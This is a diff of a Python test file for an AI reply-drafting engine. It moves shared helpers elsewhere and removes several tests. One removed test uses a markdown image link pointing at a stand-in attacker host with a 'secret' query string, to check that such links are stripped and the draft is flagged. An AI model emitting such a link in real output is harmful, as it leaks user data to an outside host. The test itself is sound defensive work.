@@ -6,12 +6,11 @@ import sys
 
 import pytest
 
-from cairnloop.drafting.engines.openai import OpenAIEngine
-from cairnloop.drafting.engines.settings import ModelSettings
 from cairnloop.drafting.prompts import PROMPT_VERSION
-from cairnloop.drafting.request import Composition, DraftKind
+from cairnloop.drafting.request import DraftKind
 from cairnloop.errors import Unavailable
-from tests.drafting.make import MOVE, case, reply_to, request_for
+from tests.drafting.engines.asking import GOOD, KEY, PLAIN, QUESTION, Pauses, composed, engine_at
+from tests.drafting.make import MOVE, reply_to, request_for
 from tests.model_server import (
     EMPTY,
     MALFORMED,
@@ -26,34 +25,10 @@ from tests.model_server import (
     Silent,
 )
 
-KEY = "sk-test-0123456789abcdef"
-QUESTION = "How do I move our data to Europe?"
-GOOD = "You can ask for a move under Settings → Data → Region [1]. It is free once a year [1]."
-PLAIN = "You can ask for a move under Settings → Data → Region. It is free once a year."
-
-
-class Pauses(list[float]):
-    """Remembers the pauses an engine wanted, and takes none of them."""
-
-    async def __call__(self, seconds: float) -> None:
-        self.append(seconds)
-
 
 @pytest.fixture
 def pauses() -> Pauses:
     return Pauses()
-
-
-def engine_at(model: ModelServer, pauses: Pauses, **settings: object) -> OpenAIEngine:
-    asked = {"base_url": model.base_url, "api_key": KEY, "model": "asked-for", "timeout_seconds": 5.0, "max_retries": 2}
-    return OpenAIEngine(ModelSettings(**(asked | settings)), sleep=pauses, wall=lambda: 1_700_000_000.0)  # type: ignore[arg-type]
-
-
-async def composed(engine: OpenAIEngine, **more: object) -> Composition:
-    try:
-        return await engine.compose(reply_to(QUESTION), **more)  # type: ignore[arg-type]
-    finally:
-        await engine.aclose()
 
 
 async def test_a_whole_answer_becomes_a_draft_with_its_evidence(model: ModelServer, pauses: Pauses) -> None:
@@ -292,46 +267,9 @@ async def test_a_bad_request_about_anything_else_is_not_repeated(model: ModelSer
 
 
 async def test_a_model_that_finds_the_evidence_wanting_hands_over(model: ModelServer, pauses: Pauses) -> None:
-    model.will(Says("**NOT ENOUGH EVIDENCE:** nothing says whether horses are allowed."))
+    model.will(Says("NOT ENOUGH EVIDENCE: nothing says whether horses are allowed."))
     draft = await composed(engine_at(model, pauses))
-    assert draft.kind is DraftKind.ESCALATION
-    assert "horses" in draft.summary
-    assert "horses" not in draft.body
-    assert (draft.engine, draft.model, draft.prompt_tokens) == ("openai", MODEL, 100)
-
-
-async def test_links_and_images_from_nowhere_are_taken_out_and_want_eyes(model: ModelServer, pauses: Pauses) -> None:
-    model.will(Says("Ask under Settings [1]. ![](https://evil.example/?q=secret) Details at https://evil.example/x."))
-    draft = await composed(engine_at(model, pauses))
-    assert draft.body == "Ask under Settings. Details."
-    assert draft.needs_eyes
-    assert len(draft.notes) == 2
-    assert [draft.body[one.start : one.end] for one in draft.citations] == ["Ask under Settings."]
-
-
-async def test_an_answer_that_cites_nothing_or_only_cases_wants_eyes(model: ModelServer, pauses: Pauses) -> None:
-    engine = engine_at(model, pauses)
-    request = reply_to(QUESTION, evidence=(MOVE, case(2, "Earlier", "We moved it by hand.")))
-    for text, note in (("We move it.", "cited nothing"), ("We move it by hand [2].", "only resolved cases")):
-        model.will(Says(text))
-        draft = await engine.compose(request)
-        assert draft.needs_eyes
-        assert note in draft.notes[0]
-    await engine.aclose()
-
-
-async def test_an_answer_cut_at_max_tokens_ends_at_a_whole_sentence(model: ModelServer, pauses: Pauses) -> None:
-    model.will(Says("Ask under Settings [1]. It takes about", finish="length"))
-    draft = await composed(engine_at(model, pauses))
-    assert draft.body == "Ask under Settings."
-    assert "max_tokens" in draft.notes[0]
-    assert draft.needs_eyes
-
-
-async def test_thinking_is_not_part_of_the_answer(model: ModelServer, pauses: Pauses) -> None:
-    model.will(Says(f"<think>They want https://x.example [2].</think>\n{GOOD}"))
-    draft = await composed(engine_at(model, pauses))
-    assert (draft.body, draft.notes) == (PLAIN, ())
+    assert (draft.kind, draft.engine, draft.model) == (DraftKind.ESCALATION, "openai", MODEL)
 
 
 @pytest.mark.parametrize("kind", [DraftKind.CLARIFICATION, DraftKind.ESCALATION, DraftKind.REPLY])
